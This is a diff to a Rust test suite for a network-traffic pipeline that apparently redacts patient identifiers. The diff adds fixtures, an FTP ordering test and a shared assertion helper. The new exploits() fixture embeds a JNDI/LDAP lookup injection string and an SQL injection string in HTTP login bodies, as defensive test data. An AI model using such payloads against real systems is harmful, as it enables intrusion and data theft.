@@ -115,8 +115,12 @@ fn packets(talk: &Talk) -> Vec<Vec<u8>> {
 }
 
 fn read(talk: &Talk) -> PlainRows {
+    read_all(&packets(talk))
+}
+
+fn read_all(packets: &[Vec<u8>]) -> PlainRows {
     let mut pipeline = Pipeline::new(Keys::new(&[7; 32], "k1"), "test".to_owned());
-    for (n, data) in packets(talk).iter().enumerate() {
+    for (n, data) in packets.iter().enumerate() {
         pipeline.packet(Packet {
             ts: 1_700_000_000_000_000_000 + n as i64 * 1_000_000,
             link: 101,
@@ -203,6 +207,26 @@ fn http() -> Talk {
                 X-Patient: MRN004711\r\nContent-Length: 16\r\n\r\nErika Mustermann",
         ],
     )
+}
+
+/// Bodies that hold an exploit and a person.
+fn exploits() -> [Talk; 2] {
+    let post = |media: &str, body: &str| {
+        let length = body.len();
+        let request = format!("POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: {media}\r\nContent-Length: {length}\r\n\r\n{body}");
+        let answer = b"HTTP/1.1 204 No Content\r\n\r\n";
+        talk("http", TCP, 80, &[request.as_bytes(), answer]).of(&["http"])
+    };
+    [
+        post(
+            "application/json",
+            "{\"family\":\"${jndi:ldap://x/MRN004711}\",\"given\":\"Erika\"}",
+        ),
+        post(
+            "application/x-www-form-urlencoded",
+            "name=Mustermann%27+or+%271%27%3d%271&born=19640812",
+        ),
+    ]
 }
 
 /// Two requests and their answers over HTTP/2, all texts in Huffman code and entered in the tables: what the first answer says of the server,
@@ -648,6 +672,8 @@ fn everywhere() -> Vec<Talk> {
     all.extend(astm());
     all.extend(snmp());
     all.extend(banners());
+    all.extend(mailboxes());
+    all.extend(exploits());
     for about in [
         "Erikas-MBP.fritz.box",
         "iphone-von-erika-mustermann.lan",
@@ -674,6 +700,16 @@ fn forms(value: &str) -> Vec<String> {
     ]
 }
 
+fn nothing_is_planted_in(found: &PlainRows) {
+    for (stream, row) in found.iter().flat_map(|(stream, rows)| rows.iter().map(move |row| (stream, row))) {
+        for (column, text) in row {
+            for form in PLANTED.iter().flat_map(|value| forms(value)) {
+                assert!(!text.to_lowercase().contains(&form), "{stream}.{column} holds {text:?}");
+            }
+        }
+    }
+}
+
 #[test]
 fn nothing_planted_stands_in_any_row() {
     for talk in everywhere() {
@@ -683,12 +719,26 @@ fn nothing_planted_stands_in_any_row() {
         for stream in talk.streams {
             assert!(found.contains_key(*stream), "{} gave no row of {stream}", talk.service);
         }
-        for (stream, row) in found.iter().flat_map(|(stream, rows)| rows.iter().map(move |row| (stream, row))) {
-            for (column, text) in row {
-                for form in PLANTED.iter().flat_map(|value| forms(value)) {
-                    assert!(!text.to_lowercase().contains(&form), "{stream}.{column} holds {text:?}");
-                }
-            }
-        }
+        nothing_is_planted_in(&found);
+    }
+}
+
+/// The file has what its name tells, whether that is said before it comes or while it passes.
+#[test]
+fn a_file_of_ftp_is_called_what_the_command_says_and_nothing_planted_stands_in_it() {
+    let (control, data) = (packets(&transfer()), packets(&transferred()));
+    let (announced, rest) = control.split_at(control.len() - 3);
+    let (begun, ended) = data.split_at(3);
+    for all in [
+        [announced, rest, begun, ended].concat(),
+        [announced, begun, rest, ended].concat(),
+        [&control[..control.len() - 4], begun, &control[control.len() - 4..], ended].concat(),
+    ] {
+        let found = read_all(&all);
+        let file = &found["files"][0];
+        let cells = ["source", "extension", "depth", "partial"].map(|column| file[column].as_str());
+        assert_eq!(cells, ["FTP_DATA", "pdf", "2", "false"]);
+        assert!(file["name"].starts_with("k1:") && file["sha256"] != "-");
+        nothing_is_planted_in(&found);
     }
 }
